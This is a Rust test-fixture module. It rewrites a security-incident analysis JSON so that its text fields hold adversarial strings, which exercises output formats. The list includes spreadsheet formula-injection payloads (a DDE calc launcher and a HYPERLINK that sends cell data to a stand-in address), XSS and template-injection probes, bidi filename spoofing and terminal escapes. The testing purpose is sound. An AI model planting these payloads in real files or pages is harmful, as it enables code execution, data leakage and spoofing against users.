//! An analysis to write down, as JSON: the tests of the room and those with other people's tools read it.

use serde_json::Value;

/// A night on which somebody got in. Its words are still to be written.
pub fn plain() -> Value {
    serde_json::from_str(include_str!("analysis.json")).unwrap()
}

/// What formats may stumble over.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://192.0.2.1/?x=\"&A1,\"click\")",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)\" style=\"x",
    "a\"b\"\"c,d;e\r\nf,\"g\n",
    "]]>&amp;&#0;<!--x--><![CDATA[y",
    "\u{202e}gnp.exe\u{202c}\u{200b}\u{feff}",
    "\u{1b}[31mred\u{1b}[0m\u{9b}2J\u{7}\u{8}\u{0}",
    "\u{1f480}\u{1f468}\u{200d}\u{1f469} \u{4f60}\u{597d} \u{645}\u{631}\u{62d}\u{628}\u{627} \u{939}\u{93f}",
    "\u{fffe}\u{ffff}\u{fdd0}\u{e000}\u{10ffff}\u{e0041}",
    "a' OR [ipv4-addr:value = '1'] \\",
    "_x0041_ _x000D_ %n%s {{7*7}} ${x}",
    "http://192.0.2.1/a b",
    "\u{41}\u{430}\u{391} \u{e9}e\u{301}\u{301}\u{301}\u{301}",
    "",
];

/// The same analysis with each text that an input may have written replaced by one of [`HOSTILE`], or by a
/// word of 100 KB, in turn.
pub fn hostile() -> Value {
    let mut analysis = plain();
    let long = "W\u{1f480}=".repeat(100_000 / 6);
    let mut turn = 0;
    let mut next = || {
        turn += 1;
        HOSTILE.get(turn % (HOSTILE.len() + 1)).map_or_else(|| long.clone(), ToString::to_string)
    };
    replace(&mut analysis, "", &mut next);
    analysis
}

fn replace(value: &mut Value, key: &str, next: &mut impl FnMut() -> String) {
    const TEXTS: [&str; 19] = [
        "names",
        "name",
        "health",
        "reason",
        "description",
        "recommendation",
        "actor",
        "users",
        "user",
        "value",
        "text",
        "rule_ids",
        "country",
        "network",
        "what",
        "written_by",
        "counted_by",
        "compressor",
        "left_out",
    ];
    match value {
        Value::Object(members) => members.iter_mut().for_each(|(key, value)| replace(value, key, next)),
        Value::Array(items) => items.iter_mut().for_each(|item| replace(item, key, next)),
        Value::String(text) if TEXTS.contains(&key) => *text = next(),
        _ => {}
    }
}
